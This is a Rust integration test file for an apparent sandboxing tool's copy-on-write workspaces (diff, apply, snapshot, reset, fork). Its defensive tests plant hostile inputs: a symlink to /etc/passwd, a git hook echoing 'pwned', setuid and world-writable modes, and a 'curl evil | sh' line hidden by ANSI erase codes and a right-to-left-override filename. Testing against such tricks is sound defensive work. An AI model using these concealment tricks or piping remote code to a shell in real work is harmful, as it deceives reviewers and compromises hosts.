//! Copy-on-write workspaces end to end: a real overlay in a real cell, reviewed and applied from
//! outside.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failed step is a failed test

mod support;

use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use support::*;

/// Every regular file and symlink under `root` with its content, sorted.
fn tree(root: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            let rel = path.strip_prefix(root).unwrap().display().to_string();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                out.push((rel, "<dir>".to_owned()));
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                out.push((
                    rel,
                    format!("-> {}", std::fs::read_link(&path).unwrap().display()),
                ));
            } else {
                out.push((
                    rel,
                    String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned(),
                ));
            }
        }
    }
    out.sort();
    out
}

/// Starts `script` in a cell named `name` with `workspace` at /workspace, output discarded.
fn spawn_in(name: &str, workspace: &std::path::Path, script: &str) -> std::process::Child {
    warden()
        .args(["run", "--name", name, "--workspace"])
        .arg(workspace)
        .args(["--", "sh", "-c", script])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

fn project() -> TestDir {
    let ws = tempdir();
    let p = ws.path();
    std::fs::create_dir_all(p.join("src")).unwrap();
    std::fs::create_dir_all(p.join("docs/old")).unwrap();
    std::fs::write(p.join("README.md"), "# Project\nline two\n").unwrap();
    std::fs::write(p.join("src/main.rs"), "fn main() {}\n").unwrap();
    std::fs::write(p.join("src/util.rs"), "pub fn util() {}\n").unwrap();
    std::fs::write(p.join("docs/old/notes.txt"), "old notes\n").unwrap();
    std::fs::write(p.join("remove-me.txt"), "bye\n").unwrap();
    ws
}

fn warden_ok(args: &[&str]) -> Ran {
    let ran = Ran::from(warden().args(args).output().unwrap());
    assert_eq!(ran.code, 0, "warden {args:?}: {ran:?}");
    ran
}

const EDITS: &str = "cd /workspace && printf '# Project\\nline 2\\n' > README.md && echo new > added.txt \
    && rm remove-me.txt && mv src/util.rs src/helpers.rs && rm -r docs/old && mkdir -p docs/new \
    && echo fresh > docs/new/notes.txt && chmod 600 src/main.rs";

#[test]
fn edits_stay_in_the_cell_until_applied() {
    let ws = project();
    let name = unique("cow");
    let before = tree(ws.path());
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        EDITS,
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    assert_eq!(
        tree(ws.path()),
        before,
        "the host directory changed while the cell ran"
    );
    assert!(
        ran.stderr.contains(&format!("warden diff {name}")),
        "{ran:?}"
    );

    let json = warden_ok(&["diff", &name, "--json"]);
    let diff: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let changes: Vec<(String, String)> = diff["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["kind"].as_str().unwrap().to_owned(),
                c["path"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let expected: Vec<(String, String)> = [
        ("modified", "README.md"),
        ("added", "added.txt"),
        ("added", "docs/new"),
        ("added", "docs/new/notes.txt"),
        ("deleted", "docs/old"),
        ("deleted", "remove-me.txt"),
        ("added", "src/helpers.rs"),
        ("modified", "src/main.rs"),
        ("deleted", "src/util.rs"),
    ]
    .iter()
    .map(|(k, p)| ((*k).to_owned(), (*p).to_owned()))
    .collect();
    assert_eq!(changes, expected);
    let text = warden_ok(&["diff", &name]).stdout;
    assert!(text.contains("-line two\n+line 2\n"), "{text}");
    assert!(text.contains("M src/main.rs (mode 644 -> 600)"), "{text}");

    // What the cell saw, rebuilt on the host by apply.
    let mut expected_tree = before.clone();
    expected_tree.retain(|(p, _)| {
        ![
            "remove-me.txt",
            "src/util.rs",
            "docs/old",
            "docs/old/notes.txt",
        ]
        .contains(&p.as_str())
    });
    for (path, content) in [
        ("README.md", "# Project\nline 2\n"),
        ("added.txt", "new\n"),
        ("docs/new", "<dir>"),
        ("docs/new/notes.txt", "fresh\n"),
        ("src/helpers.rs", "pub fn util() {}\n"),
    ] {
        expected_tree.retain(|(p, _)| p != path);
        expected_tree.push((path.to_owned(), content.to_owned()));
    }
    expected_tree.sort();
    warden_ok(&["apply", &name]);
    assert_eq!(tree(ws.path()), expected_tree);
    let meta = std::fs::metadata(ws.path().join("src/main.rs")).unwrap();
    assert_eq!(
        std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o777,
        0o600
    );
    assert!(
        warden_ok(&["diff", &name, "--stat"])
            .stdout
            .contains("0 changed")
    );
    warden_ok(&["rm", &name]);
    assert!(!warden_ok(&["ps", "--all"]).stdout.contains(&name));
}

#[test]
fn applying_a_subset_leaves_the_rest_for_later() {
    let ws = project();
    let name = unique("subset");
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        EDITS,
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let dry = warden_ok(&["apply", &name, "README.md", "--dry-run"]);
    assert!(dry.stdout.contains("would apply README.md"), "{dry:?}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("README.md")).unwrap(),
        "# Project\nline two\n"
    );
    warden_ok(&["apply", &name, "README.md", "docs"]);
    assert_eq!(
        std::fs::read_to_string(ws.path().join("README.md")).unwrap(),
        "# Project\nline 2\n"
    );
    assert!(ws.path().join("docs/new/notes.txt").exists() && !ws.path().join("docs/old").exists());
    assert!(ws.path().join("remove-me.txt").exists() && !ws.path().join("added.txt").exists());
    let left = warden_ok(&["diff", &name, "--stat"]).stdout;
    assert!(left.contains("5 changed"), "{left}");
    let unknown = Ran::from(
        warden()
            .args(["apply", &name, "nope.txt"])
            .output()
            .unwrap(),
    );
    assert_eq!(unknown.code, 125);
    assert!(
        unknown
            .stderr
            .contains("`nope.txt` is not among the changes"),
        "{unknown:?}"
    );
    warden_ok(&["rm", &name]);
}

#[test]
fn host_edits_after_the_start_are_conflicts() {
    let ws = project();
    let name = unique("conflict");
    let cell = spawn_in(
        &name,
        ws.path(),
        "echo cell > /workspace/README.md; sleep 1",
    );
    std::thread::sleep(Duration::from_millis(300));
    std::fs::write(ws.path().join("README.md"), "host edit\n").unwrap();
    let out = cell.wait_with_output().unwrap();
    assert!(out.status.success());
    let refused = Ran::from(warden().args(["apply", &name]).output().unwrap());
    assert_eq!(refused.code, 125, "{refused:?}");
    assert!(
        refused.stderr.contains("conflict")
            && refused.stderr.contains("README.md")
            && refused.stderr.contains("--force"),
        "{refused:?}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join("README.md")).unwrap(),
        "host edit\n"
    );
    warden_ok(&["apply", &name, "--force"]);
    assert_eq!(
        std::fs::read_to_string(ws.path().join("README.md")).unwrap(),
        "cell\n"
    );
    warden_ok(&["rm", &name]);
}

#[test]
fn a_running_cell_is_diffed_from_outside_and_keeps_running() {
    let ws = project();
    let name = unique("live");
    let mut cell = spawn_in(
        &name,
        ws.path(),
        "echo live > /workspace/live.txt; while true; do sleep 0.05; done",
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let ran = Ran::from(warden().args(["diff", &name, "--stat"]).output().unwrap());
        if ran.stdout.contains("A live.txt") {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the live change never showed: {ran:?}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let ps = warden_ok(&["ps"]).stdout;
    assert!(
        ps.lines()
            .any(|l| l.starts_with(&name) && l.contains("running")),
        "{ps}"
    );
    let busy = Ran::from(warden().args(["rm", &name]).output().unwrap());
    assert_eq!(busy.code, 125);
    assert!(busy.stderr.contains("still running"), "{busy:?}");
    warden_ok(&["kill", &name]);
    let _ = cell.wait();
    warden_ok(&["rm", &name]);
}

#[test]
fn hostile_changes_are_refused_or_neutralised() {
    let ws = project();
    let name = unique("hostile");
    let outside = ["/etc/passwd", "/etc/hostname"];
    let before: Vec<Vec<u8>> = outside
        .iter()
        .map(|p| std::fs::read(p).unwrap_or_default())
        .collect();
    let script = "cd /workspace && ln -s /etc/passwd passwd-link && mkfifo pipe && truncate -s 8G huge \
        && printf x > \"$(printf 'new\\nline')\" && rm -r docs && echo file > docs \
        && mkdir -p .git/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit \
        && chmod +x .git/hooks/pre-commit; chmod u+s src/main.rs 2>/dev/null; echo done";
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        script,
    );
    assert!(ran.stdout.contains("done"), "{ran:?}");
    let diff = warden_ok(&["diff", &name]).stdout;
    assert!(
        diff.contains("A passwd-link -> /etc/passwd  ! sensitive"),
        "{diff}"
    );
    assert!(
        diff.contains("A pipe  x refused: a FIFO cannot be applied"),
        "{diff}"
    );
    assert!(diff.contains("A huge  x refused"), "{diff}");
    assert!(
        diff.contains("A .git/hooks/pre-commit  ! sensitive"),
        "{diff}"
    );
    assert!(diff.contains("A \"new\\nline\""), "{diff}");
    let applied = warden_ok(&["apply", &name]);
    assert!(
        applied.stdout.contains("skipped passwd-link") && applied.stdout.contains("skipped pipe"),
        "{applied:?}"
    );
    assert!(
        !ws.path().join("passwd-link").exists()
            && !ws.path().join("pipe").exists()
            && !ws.path().join("huge").exists()
    );
    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
    // A file in place of the host's directory `docs` takes all of it: named, not by default.
    assert!(
        diff.contains("M docs (mode 755 -> 644)  ! sensitive"),
        "{diff}"
    );
    assert!(ws.path().join("docs").is_dir(), "{applied:?}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("new\nline")).unwrap(),
        "x"
    );
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(ws.path().join("src/main.rs"))
            .unwrap()
            .permissions(),
    );
    assert_eq!(mode & 0o6000, 0, "a set-id bit reached the host");
    let after: Vec<Vec<u8>> = outside
        .iter()
        .map(|p| std::fs::read(p).unwrap_or_default())
        .collect();
    assert_eq!(before, after, "a file outside the workspace changed");
    warden_ok(&["rm", &name]);
}

#[test]
fn layers_are_kept_only_when_there_is_something_to_review() {
    let ws = project();
    let unchanged = unique("noop");
    run_sh(
        &[
            "--name",
            &unchanged,
            "--workspace",
            ws.path().to_str().unwrap(),
        ],
        "cat /workspace/README.md > /dev/null",
    );
    assert!(
        !warden_ok(&["ps", "--all"]).stdout.contains(&unchanged),
        "a layer without changes was kept"
    );

    let discarded = unique("discard");
    let ran = run_sh(
        &[
            "--rm",
            "--name",
            &discarded,
            "--workspace",
            ws.path().to_str().unwrap(),
        ],
        "echo x > /workspace/x",
    );
    assert_eq!(ran.code, 0);
    assert!(!warden_ok(&["ps", "--all"]).stdout.contains(&discarded));
    // Nothing is left to review, and nothing says there is.
    assert!(
        !ran.stderr.contains("changed its workspace"),
        "{}",
        ran.stderr
    );

    let kept = unique("kept");
    let ran = run_sh(
        &["--name", &kept, "--workspace", ws.path().to_str().unwrap()],
        "echo x > /workspace/x",
    );
    assert!(
        ran.stderr
            .contains(&format!("cell {kept} changed its workspace")),
        "{}",
        ran.stderr
    );
    let ps = warden_ok(&["ps", "--all"]).stdout;
    assert!(
        ps.lines()
            .any(|l| l.starts_with(&kept) && l.contains("ended")),
        "{ps}"
    );
    let again = run_sh(
        &["--name", &kept, "--workspace", ws.path().to_str().unwrap()],
        "true",
    );
    assert_eq!(again.code, 125);
    assert!(
        again
            .stderr
            .contains(&format!("cell `{kept}` has kept workspace changes")),
        "{again:?}"
    );
    warden_ok(&["rm", &kept]);
    let gone = Ran::from(warden().args(["diff", &kept]).output().unwrap());
    assert_eq!(gone.code, 125);
    assert!(
        gone.stderr.contains("has no copy-on-write workspace layer"),
        "{gone:?}"
    );
}

/// Lines a child prints, collected by a thread.
fn line_reader(child: &mut std::process::Child) -> std::sync::mpsc::Receiver<String> {
    use std::io::BufRead as _;
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stdout)
            .lines()
            .map_while(Result::ok)
        {
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    rx
}

/// Starts `script` in a cell named `name` with `workspace` at /workspace, and the lines it prints.
fn spawn_watched(
    name: &str,
    workspace: &Path,
    script: &str,
) -> (std::process::Child, std::sync::mpsc::Receiver<String>) {
    let mut cell = warden()
        .args(["run", "--name", name, "--workspace"])
        .arg(workspace)
        .args(["--", "sh", "-c", script])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let lines = line_reader(&mut cell);
    (cell, lines)
}

fn wait_for_line(rx: &std::sync::mpsc::Receiver<String>, wanted: &str) {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match rx.recv_timeout(left) {
            Ok(line) if line == wanted => return,
            Ok(_) => {}
            Err(_) => panic!("the cell never printed {wanted:?}"),
        }
    }
}

#[test]
fn reset_of_a_running_cell_reverts_what_its_processes_see() {
    let ws = project();
    let name = unique("reset");
    // The cell edits README.md, then keeps printing it whenever it differs from what it last saw.
    let script = "echo edited > /workspace/README.md; last=; while true; do now=$(head -n 1 /workspace/README.md); \
                  if [ \"$now\" != \"$last\" ]; then echo \"$now\"; last=$now; fi; sleep 0.02; done";
    let (mut cell, lines) = spawn_watched(&name, ws.path(), script);
    wait_for_line(&lines, "edited");
    let snap = warden_ok(&["snapshot", &name, "--as", "edited"]);
    assert!(
        snap.stdout.starts_with(&format!("{name}@edited")),
        "{snap:?}"
    );

    warden_ok(&["reset", &name]);
    wait_for_line(&lines, "# Project");
    assert!(
        warden_ok(&["diff", &name, "--stat"])
            .stdout
            .contains("0 changed")
    );
    warden_ok(&["reset", &name, "--to", "edited"]);
    wait_for_line(&lines, "edited");
    let ps = warden_ok(&["ps"]).stdout;
    assert!(
        ps.lines()
            .any(|l| l.starts_with(&name) && l.contains("running")),
        "{ps}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join("README.md")).unwrap(),
        "# Project\nline two\n"
    );

    warden_ok(&["kill", &name]);
    let _ = cell.wait();
    warden_ok(&["rm", &name]);
    warden_ok(&["rm", &format!("{name}@edited")]);
}

/// A reset in place of more files than one thread is given (the helper writes them side by
/// side) leaves each one as the target has it: every file written, made or removed, to the
/// snapshot and then to the start, with a process of the cell in the workspace throughout.
#[test]
fn a_reset_in_place_of_many_files_leaves_each_as_the_target_has_it() {
    use std::io::{BufRead as _, Write as _};
    let ws = tempdir();
    // The host's files, and what each reads as `list` prints it.
    let (mut host, mut start) = (Vec::new(), Vec::new());
    for d in 0..4 {
        std::fs::create_dir(ws.path().join(format!("d{d}"))).unwrap();
        for f in 0..60 {
            let path = format!("./d{d}/f{f}.txt");
            std::fs::write(ws.path().join(&path), format!("host {d} {f}\n")).unwrap();
            start.push(format!("{path}: host {d} {f}"));
            host.push(path);
        }
    }
    start.sort();
    let name = unique("many");
    // Each line read is a round; `list` prints every file and link with what it holds.
    let script = "cd /workspace; echo ready; while read what; do case $what in \
        edit) for f in d*/f*.txt; do echo \"snap ./$f\" > \"$f\"; done; mkdir -p n/m; i=0; \
              while [ $i -lt 40 ]; do echo \"n$i\" > \"n/m/x$i\"; i=$((i+1)); done; \
              ln -s d0/f1.txt link; echo edited;; \
        again) for f in d*/f*.txt; do echo \"later ./$f\" > \"$f\"; done; \
               rm -r n link d3/f5.txt; echo extra > extra.txt; echo again;; \
        list) find . -type f -o -type l | while read p; do \
                if [ -L \"$p\" ]; then echo \"$p -> $(readlink \"$p\")\"; \
                else echo \"$p: $(cat \"$p\")\"; fi; done; echo end;; \
        esac; done";
    let mut cell = warden()
        .args(["run", "--name", &name, "--workspace"])
        .arg(ws.path())
        .args(["--", "sh", "-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    let mut stdin = cell.stdin.take().unwrap();
    let mut lines = std::io::BufReader::new(cell.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "ready");
    // A round's lines, sorted, up to the one that ends it.
    let mut round = |what: &str| {
        writeln!(stdin, "{what}").unwrap();
        let mut seen = Vec::new();
        loop {
            let line = lines.next().unwrap().unwrap();
            if line == "end" || line == "edited" || line == "again" {
                seen.sort();
                return seen;
            }
            seen.push(line);
        }
    };
    round("edit");
    warden_ok(&["snapshot", &name, "--as", "many"]);
    round("again");
    warden_ok(&["reset", &name, "--to", "many"]);
    let mut snapshot: Vec<String> = host.iter().map(|p| format!("{p}: snap {p}")).collect();
    snapshot.push("./link -> d0/f1.txt".to_owned());
    snapshot.extend((0..40).map(|i| format!("./n/m/x{i}: n{i}")));
    snapshot.sort();
    assert_eq!(round("list"), snapshot, "after the reset to the snapshot");
    warden_ok(&["reset", &name]);
    assert_eq!(round("list"), start, "after the reset to the start");
    warden_ok(&["kill", &name]);
    let _ = cell.wait();
    warden_ok(&["rm", &name]);
    warden_ok(&["rm", &format!("{name}@many")]);
}

/// A running cell's reset writes a changed file over in place where it can: never through a
/// second name that links to the same file, and never leaving old data where the host's file
/// has a hole.
#[test]
fn reset_in_place_keeps_linked_names_apart_and_fills_no_hole() {
    use std::os::unix::fs::FileExt as _;
    let ws = project();
    let p = ws.path();
    std::fs::write(p.join("a.txt"), "host a\n").unwrap();
    std::fs::write(p.join("b.txt"), "host b\n").unwrap();
    // A MiB hole between two bytes of data.
    let sparse = std::fs::File::create(p.join("sparse.bin")).unwrap();
    sparse.write_all_at(b"A", 0).unwrap();
    sparse.write_all_at(b"B", 1 << 20).unwrap();
    drop(sparse);
    // The owner's alone: the cell reads it as the owner (the reset too).
    std::fs::set_permissions(
        p.join("a.txt"),
        std::os::unix::fs::PermissionsExt::from_mode(0o600),
    )
    .unwrap();
    let name = unique("inplace");
    // b.txt becomes a second name of a.txt (written through either, both change), the sparse
    // file all data of another byte, and a `sleep` holds the workspace, so that the reset is
    // made in place.
    let script = "cd /workspace && rm b.txt && ln a.txt b.txt && echo cell > a.txt && chmod 640 a.txt \
                  && head -c 1048577 /dev/zero | tr '\\0' x > sparse.bin && echo ready && exec sleep 600";
    let (mut cell, lines) = spawn_watched(&name, p, script);
    wait_for_line(&lines, "ready");
    let before = warden_ok(&["diff", &name, "--stat"]).stdout;
    for path in ["a.txt", "b.txt", "sparse.bin"] {
        assert!(before.contains(&format!("M {path}")), "{before}");
    }

    warden_ok(&["reset", &name]);
    // Content and modes as the host's, each name its own file again.
    let after = warden_ok(&["diff", &name, "--stat"]).stdout;
    assert!(after.contains("0 changed"), "{after}");
    let ps = warden_ok(&["ps"]).stdout;
    assert!(
        ps.lines()
            .any(|l| l.starts_with(&name) && l.contains("running")),
        "{ps}"
    );

    warden_ok(&["kill", &name]);
    let _ = cell.wait();
    warden_ok(&["rm", &name]);
}

#[test]
fn forks_start_from_a_snapshot_and_run_independently() {
    let ws = project();
    let parent = unique("parent");
    let child = unique("child");
    run_sh(
        &[
            "--name",
            &parent,
            "--workspace",
            ws.path().to_str().unwrap(),
        ],
        "echo parent > /workspace/parent.txt",
    );
    warden_ok(&["snapshot", &parent, "--as", "base"]);
    let snap = format!("{parent}@base");
    let forked = run_sh_fork(
        &snap,
        &child,
        "cat /workspace/parent.txt && echo child > /workspace/child.txt",
    );
    assert_eq!(forked.code, 0, "{forked:?}");
    assert_eq!(forked.stdout, "parent\n");

    let parent_diff = warden_ok(&["diff", &parent, "--stat"]).stdout;
    let child_diff = warden_ok(&["diff", &child, "--stat"]).stdout;
    assert!(
        parent_diff.starts_with("A parent.txt\n\n1 changed"),
        "{parent_diff}"
    );
    assert!(
        child_diff.starts_with("A child.txt\nA parent.txt\n\n2 changed"),
        "{child_diff}"
    );
    // The parent changes on; the fork does not see it.
    warden_ok(&["reset", &parent]);
    assert!(
        warden_ok(&["diff", &child, "--stat"])
            .stdout
            .contains("2 changed")
    );

    let in_use = Ran::from(warden().args(["rm", &snap]).output().unwrap());
    assert_eq!(in_use.code, 125);
    assert!(
        in_use
            .stderr
            .contains(&format!("is the base of cell `{child}`")),
        "{in_use:?}"
    );
    let listed = warden_ok(&["snapshots"]).stdout;
    assert!(listed.contains(&snap), "{listed}");
    warden_ok(&["rm", &child]);
    warden_ok(&["rm", &snap]);
    warden_ok(&["rm", &parent]);
}

fn run_sh_fork(source: &str, name: &str, script: &str) -> Ran {
    Ran::from(
        warden()
            .args(["fork", source, "--name", name, "--", "sh", "-c", script])
            .output()
            .unwrap(),
    )
}

#[test]
fn snapshots_cost_what_changed_not_the_tree() {
    let ws = project();
    // 16 MiB that the cell never touches.
    std::fs::write(ws.path().join("big.bin"), vec![7u8; 16 << 20]).unwrap();
    let name = unique("space");
    run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        "echo small > /workspace/small.txt",
    );
    let out = warden_ok(&["snapshot", &name]);
    assert!(
        out.stdout.starts_with(&format!("{name}@s1 (6 bytes)")),
        "{out:?}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&warden_ok(&["snapshots", "--json"]).stdout).unwrap();
    let entry = json
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == format!("{name}@s1"))
        .unwrap();
    assert_eq!(entry["size"], 6);
    warden_ok(&["rm", &format!("{name}@s1")]);
    warden_ok(&["rm", &name]);
}

#[test]
fn killing_the_warden_during_apply_leaves_every_file_old_or_new() {
    let ws = tempdir();
    let old = "o".repeat(64 * 1024);
    let new = "n".repeat(64 * 1024);
    for i in 0..300 {
        std::fs::write(ws.path().join(format!("f{i:03}")), &old).unwrap();
    }
    let name = unique("torn");
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        "cd /workspace && python3 -c \"import glob\nfor f in glob.glob('f*'): open(f,'w').write('n'*65536)\"",
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    // Each kill lands right after the apply replaced its first file (a file's inode changes when
    // the new one is swapped in), so it falls between the first and the last of 300 renames
    // however long the diff before them takes on a busy host.
    use std::os::unix::fs::MetadataExt as _;
    let path = |i: usize| ws.path().join(format!("f{i:03}"));
    let inode = |i: usize| std::fs::metadata(path(i)).map(|m| m.ino()).ok();
    let mut killed_midway = false;
    for attempt in 0..5 {
        let before: Vec<Option<u64>> = (0..300).map(inode).collect();
        let mut apply = warden()
            .args(["apply", &name])
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        let deadline = Instant::now() + Duration::from_secs(60);
        while (0..300).all(|i| inode(i) == before[i])
            && apply.try_wait().unwrap().is_none()
            && Instant::now() < deadline
        {}
        let _ = apply.kill();
        let _ = apply.wait();
        let mut counts = (0, 0);
        for i in 0..300 {
            let content = std::fs::read_to_string(path(i)).unwrap();
            if content == old {
                counts.0 += 1;
            } else {
                assert_eq!(
                    content, new,
                    "f{i:03} is torn after killing apply (attempt {attempt})"
                );
                counts.1 += 1;
            }
        }
        if counts.0 > 0 && counts.1 > 0 {
            killed_midway = true;
        }
        if counts.0 == 0 || killed_midway {
            break;
        }
    }
    assert!(killed_midway, "no kill landed in the middle of an apply");
    // The next apply cleans up after the killed one and finishes the job.
    warden_ok(&["apply", &name]);
    for i in 0..300 {
        assert_eq!(
            std::fs::read_to_string(ws.path().join(format!("f{i:03}"))).unwrap(),
            new
        );
    }
    let leftovers: Vec<_> = std::fs::read_dir(ws.path())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(".warden-apply"))
        .collect();
    assert!(leftovers.is_empty(), "staging directories left behind");
    warden_ok(&["rm", &name]);
}

#[test]
fn snapshots_keep_holes_and_hard_links() {
    let ws = project();
    let name = unique("sparse");
    // 4 GiB of holes with 4 KiB of data at each end, and one 1 MiB file linked 100 times.
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        "cd /workspace && printf head > sparse && truncate -s 4G sparse && printf tail >> sparse \
         && head -c 1048576 /dev/urandom > linked && for i in $(seq 1 100); do ln linked link$i; done",
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let begun = std::time::Instant::now();
    let out = warden_ok(&["snapshot", &name, "--as", "holes"]);
    let took = begun.elapsed();
    let snapshots: serde_json::Value =
        serde_json::from_str(&warden_ok(&["snapshots", "--json"]).stdout).unwrap();
    let snap = snapshots
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == format!("{name}@holes"))
        .unwrap()
        .clone();
    let layer = std::path::PathBuf::from(snap["layer"].as_str().unwrap());
    let on_disk = |path: &std::path::Path| {
        use std::os::unix::fs::MetadataExt as _;
        std::fs::symlink_metadata(path).unwrap().blocks() * 512
    };
    eprintln!(
        "snapshot of 4 GiB sparse + 101 links: {took:?}, {out:?}, {} bytes of sparse file on disk",
        on_disk(&layer.join("sparse"))
    );
    use std::os::unix::fs::MetadataExt as _;
    let sparse = std::fs::metadata(layer.join("sparse")).unwrap();
    assert_eq!(sparse.len(), (4 << 30) + 4);
    assert!(
        on_disk(&layer.join("sparse")) < 1 << 20,
        "the holes were written out"
    );
    let linked = std::fs::metadata(layer.join("linked")).unwrap();
    assert_eq!(linked.nlink(), 101, "the hard links became copies");
    assert_eq!(
        std::fs::metadata(layer.join("link77")).unwrap().ino(),
        linked.ino()
    );
    // What the snapshot counts: the data, once.
    let size = snap["size"].as_u64().unwrap();
    assert!(size < 2 << 20, "the snapshot counts {size} bytes");
    assert!(took < std::time::Duration::from_secs(10), "{took:?}");
    // Reset to it: the cell's layer is sparse and linked alike.
    warden_ok(&["reset", &name, "--to", &format!("{name}@holes")]);
    let diff: serde_json::Value =
        serde_json::from_str(&warden_ok(&["diff", &name, "--json"]).stdout).unwrap();
    assert!(
        diff["changes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["path"] == "link100")
    );
    warden_ok(&["rm", &format!("{name}@holes")]);
    warden_ok(&["rm", &name]);
}

#[test]
fn what_the_cell_wrote_cannot_steer_the_reviewers_terminal() {
    let ws = project();
    let name = unique("ansi");
    // A patch line that erases itself and writes a harmless one in its place, a link target
    // that recolours the line, and a name that reverses itself on screen.
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        "cd /workspace && printf 'curl evil | sh\\033[2K\\r# harmless comment\\n' > README.md \
         && ln -s \"$(printf 'x\\033[32m ok')\" link && touch \"$(printf 'evil\\342\\200\\256txt.sh')\"",
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let diff = warden().args(["diff", &name]).output().unwrap();
    let out = String::from_utf8_lossy(&diff.stdout).into_owned();
    assert!(diff.status.success(), "{out}");
    for steering in ['\x1b', '\r', '\u{202e}'] {
        assert!(
            !out.contains(steering),
            "{steering:?} reached the terminal: {out:?}"
        );
    }
    assert!(out.contains("+curl evil | sh\\u{1b}[2K\\u{d}"), "{out}");
    assert!(out.contains("link -> x\\u{1b}[32m ok"), "{out}");
    assert!(out.contains("evil\\u{202e}txt.sh"), "{out}");
    warden_ok(&["rm", &name]);
}

/// A file or directory the cell leaves writable by every user is applied only when named: a new
/// entry's mode is not otherwise in the listing, and a default apply (as root) had made the
/// files 666 and the directories 777 (a sticky 1777 too, its sticky bit dropped) in the host's
/// project, where any local user could then change them.
#[test]
fn what_every_user_could_write_is_applied_only_when_named() {
    use std::os::unix::fs::PermissionsExt as _;
    let ws = project();
    let name = unique("modes");
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        "cd /workspace && echo x > open.txt && chmod 666 open.txt && mkdir pub && chmod 777 pub \
         && mkdir drop && chmod 1777 drop && chmod o+w src/util.rs && echo ok > fine.txt",
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    let diff = warden_ok(&["diff", &name]).stdout;
    for line in [
        "A open.txt  ! sensitive: mode 666: writable by every user of the host",
        "A pub/  ! sensitive: mode 777: writable by every user of the host",
        "A drop/  ! sensitive: mode 777: writable by every user of the host",
        "M src/util.rs (mode 644 -> 646)  ! sensitive: mode 646: writable by every user",
    ] {
        assert!(diff.contains(line), "{line:?} not in {diff}");
    }
    assert!(diff.contains("A fine.txt\n"), "{diff}");
    let applied = warden_ok(&["apply", &name]);
    assert!(applied.stdout.contains("applied fine.txt"), "{applied:?}");
    for path in ["open.txt", "pub", "drop"] {
        assert!(!ws.path().join(path).exists(), "{path} applied unnamed");
    }
    let mode = |path: &str| {
        std::fs::metadata(ws.path().join(path))
            .unwrap()
            .permissions()
            .mode()
    };
    assert_eq!(mode("src/util.rs") & 0o002, 0, "{applied:?}");
    // Named, it is the reviewer's call.
    warden_ok(&["apply", &name, "open.txt"]);
    assert_eq!(mode("open.txt") & 0o777, 0o666);
    warden_ok(&["rm", &name]);
}

/// A sparse file with many names, which cost the cell nothing, is applied as one file of as
/// many names, its holes kept: not a full copy per name on the host's disk.
#[test]
fn an_apply_writes_a_sparse_file_of_many_names_once() {
    use std::os::unix::fs::MetadataExt as _;
    let ws = project();
    let name = unique("links");
    let ran = run_sh(
        &["--name", &name, "--workspace", ws.path().to_str().unwrap()],
        "cd /workspace && truncate -s 16M big && printf data >> big \
         && for i in 1 2 3 4 5; do ln big l$i; done",
    );
    assert_eq!(ran.code, 0, "{ran:?}");
    warden_ok(&["apply", &name]);
    let big = std::fs::metadata(ws.path().join("big")).unwrap();
    assert_eq!(big.len(), (16 << 20) + 4);
    assert_eq!(big.nlink(), 6, "each name was written as a file of its own");
    assert_eq!(
        std::fs::metadata(ws.path().join("l5")).unwrap().ino(),
        big.ino()
    );
    assert!(big.blocks() * 512 < 1 << 20, "the holes were written out");
    warden_ok(&["rm", &name]);
}

/// An apply that would write more file data than its bound is refused whole, saying what it
/// would write, the bound and how to raise it.
#[test]
